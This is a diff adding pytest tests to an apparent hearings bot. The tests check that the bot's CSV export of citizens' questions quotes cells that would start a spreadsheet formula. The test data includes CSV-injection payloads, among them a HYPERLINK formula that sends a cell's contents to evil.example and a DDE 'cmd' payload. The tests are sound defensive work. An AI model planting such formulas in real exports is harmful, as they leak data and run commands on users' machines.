@@ -7,6 +7,8 @@ import csv
 import datetime as dt
 import io
 import json
+import subprocess
+import sys
 
 import pytest
 
@@ -122,3 +124,28 @@ def test_change_cancel_results_and_questions(env, tmp_path, subscribed):  # noqa
     assert refused.returncode == 1 and "held" in refused.stderr
     listed = json.loads(qogam("hearings", "list", "--json", env=env).stdout)
     assert listed[0]["id"] == int(hid) and listed[0]["questions"] == 3 and listed[0]["status"] == "held"
+
+
+def test_questions_csv_never_hands_a_spreadsheet_a_formula(env, tmp_path, subscribed):  # noqa: F811
+    added = json.loads(qogam("hearings", "add", write(tmp_path, hearing_toml()), "--json", env=env).stdout)
+    hid = added["hearing"]
+    typed = ['=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', "+1+cmd|' /C calc'!A0", "-2+3",
+             "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "Когда отремонтируют дорогу?"]
+    for n, text in enumerate(typed):
+        hearings.add_question(subscribed, hid, f"tg:{600 + n}", "ru", text)
+    # Bytes, not text: text mode would turn the CR inside a quoted cell into a newline.
+    out = subprocess.run([sys.executable, "-m", "bot", "hearings", "questions", str(hid), "--csv"], env=env,
+                         capture_output=True, timeout=60, check=False)
+    assert out.returncode == 0, out.stderr
+    cells = [r[2] for r in csv.reader(io.StringIO(out.stdout.decode("utf-8"), newline=""))][1:]
+    assert sorted(cells) == sorted(["'" + t for t in typed[:-1]] + [typed[-1]])
+    # What a spreadsheet would run: a cell that starts with one of these.
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")]
+
+
+def test_the_spreadsheet_cell_quotes_only_text_that_starts_a_formula():
+    from bot.core.text.spreadsheet import cell, row
+
+    assert cell("=1+1") == "'=1+1" and cell("@x") == "'@x" and cell("-") == "'-" and cell("\t+") == "'\t+"
+    assert cell("Дорога = ремонт") == "Дорога = ремонт" and cell("") == "" and cell("'=x") == "'=x"
+    assert row([1, -2, 2.5, None, "+7 701 000 00 00"]) == [1, -2, 2.5, None, "'+7 701 000 00 00"]
